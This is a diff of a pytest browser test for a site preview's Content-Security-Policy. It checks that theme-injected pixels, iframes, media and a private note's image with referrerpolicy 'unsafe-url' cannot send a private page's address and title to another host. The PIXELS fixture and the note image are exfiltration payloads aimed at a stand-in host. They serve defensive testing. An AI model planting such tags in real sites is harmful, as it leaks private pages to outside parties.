@@ -1,7 +1,10 @@
 """Red team 4, J1: a note's ``<script src>`` embed from another host must not run
 with the preview's origin (where it could fetch every private page with the key
 cookie and send it away): the preview's Content-Security-Policy keeps scripts,
-connections, frames and forms to its own origin. Driven in Debian's chromium."""
+connections, frames and forms to its own origin. Red team 5, K4/K5: images,
+media and frames too, so a theme's pixel (whose address carries the private
+page it is on) or a note's image with ``referrerpolicy`` reaches no other host.
+Driven in Debian's chromium."""
 
 from __future__ import annotations
 
@@ -9,14 +12,25 @@ import contextlib
 import http.server
 import os
 import threading
+import urllib.parse
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
-from test_serve import CANARY_TITLE, fetch, make_site, open_in, serving, wait_until
+from test_serve import (
+    CANARY_TITLE,
+    PRIVATE_REFLECTION,
+    fetch,
+    make_site,
+    open_in,
+    serving,
+    wait_until,
+)
 
 from ivsite.preview import http as preview_http
+
+REPO = Path(__file__).resolve().parent.parent
 
 pytestmark = [
     pytest.mark.browser,
@@ -107,3 +121,97 @@ def test_without_the_policy_the_script_sends_a_private_page_away(
     title, received = visit(page, tmp_path)
     assert title == "third party ran"
     assert any(CANARY_TITLE in r for r in received), received
+
+
+PIXELS = """
+<img src="http://HOST/pixel?p={{ page.url|urlencode }}&t={{ head_title|urlencode }}" alt="">
+<iframe src="http://HOST/frame?t={{ head_title|urlencode }}"></iframe>
+<video src="http://HOST/video" poster="http://HOST/poster" autoplay muted></video>
+<audio src="http://HOST/audio" autoplay muted></audio>
+<picture><source srcset="http://HOST/srcset"><img src="http://HOST/picture" alt=""></picture>
+<div style="background-image: url(http://HOST/background)">.</div>
+<svg width="1" height="1"><image href="http://HOST/svg-image"/></svg>
+<link rel="icon" href="http://HOST/icon">
+</body>"""
+"""What a theme may add to every page: a counting pixel the ``<noscript>`` way,
+with the page in its address, and the other ways a page loads from another host."""
+
+
+@contextlib.contextmanager
+def counter() -> Iterator[tuple[str, list[str]]]:
+    """Another host (another port of 127.0.0.1) that keeps the address of every
+    request made to it."""
+    seen: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+        def do_GET(self) -> None:
+            seen.append(urllib.parse.unquote_plus(self.path))
+            body = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
+            self.send_response(200)
+            self.send_header("Content-Type", "image/gif")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"127.0.0.1:{server.server_port}", seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def counting_site(tmp_path: Path, host: str) -> Path:
+    """The example site with a theme that counts its pages at ``host``, and a private
+    note whose image asks to send its page's address along."""
+    root = make_site(tmp_path)
+    templates = root / "themes/stats/templates"
+    templates.mkdir(parents=True)
+    base = (REPO / "themes/default/templates/base.html").read_text("utf-8")
+    (templates / "base.html").write_text(
+        base.replace("</body>", PIXELS.replace("HOST", host), 1), "utf-8")
+    toml = (root / "site.toml").read_text("utf-8")
+    (root / "site.toml").write_text(toml.replace('theme = "default"', 'theme = "stats"'), "utf-8")
+    note = root / PRIVATE_REFLECTION
+    note.write_text(note.read_text("utf-8") + f'\n<img src="http://{host}/badge.gif" '
+                    'referrerpolicy="unsafe-url" alt="">\n', "utf-8")
+    return root
+
+
+def opened(page: Any, srv: Any, path: str, theme_file: Path) -> None:
+    """Open ``path``; made with the counting theme (the pixel is in the page)."""
+    open_in(page, srv, path)
+    page.wait_for_load_state("networkidle")
+    assert "/pixel?p=" in page.content() and theme_file.is_file()
+
+
+@pytest.mark.parametrize("audience", ["private", "mentor", "public"])
+def test_a_theme_or_note_reaches_no_other_host_in_the_preview(
+        tmp_path: Path, page: Any, audience: str) -> None:
+    with counter() as (host, seen):
+        root = counting_site(tmp_path, host)
+        with serving(root, audience=audience) as srv:
+            path = PRIVATE.lstrip("/") if audience == "private" else ""
+            opened(page, srv, path, root / "themes/stats/templates/base.html")
+            page.wait_for_timeout(300)  # anything late
+        assert seen == []
+
+
+def test_without_the_policy_a_theme_sends_a_private_page_away(
+        tmp_path: Path, page: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The protection off (images, media and frames from anywhere, as before)."""
+    monkeypatch.setattr(preview_http, "CSP", preview_http.CSP.replace(
+        "img-src 'self'", "img-src *").replace("media-src 'self'", "media-src *"))
+    headers = dict(preview_http.SECURITY_HEADERS)
+    headers["Content-Security-Policy"] = preview_http.CSP
+    monkeypatch.setattr(preview_http, "SECURITY_HEADERS", headers)
+    with counter() as (host, seen):
+        root = counting_site(tmp_path, host)
+        with serving(root) as srv:
+            opened(page, srv, PRIVATE.lstrip("/"), root / "themes/stats/templates/base.html")
+            wait_until(lambda: any(CANARY_TITLE in s for s in seen), timeout=5.0)
+            wait_until(lambda: any(s.startswith("/badge.gif") for s in seen), timeout=5.0)
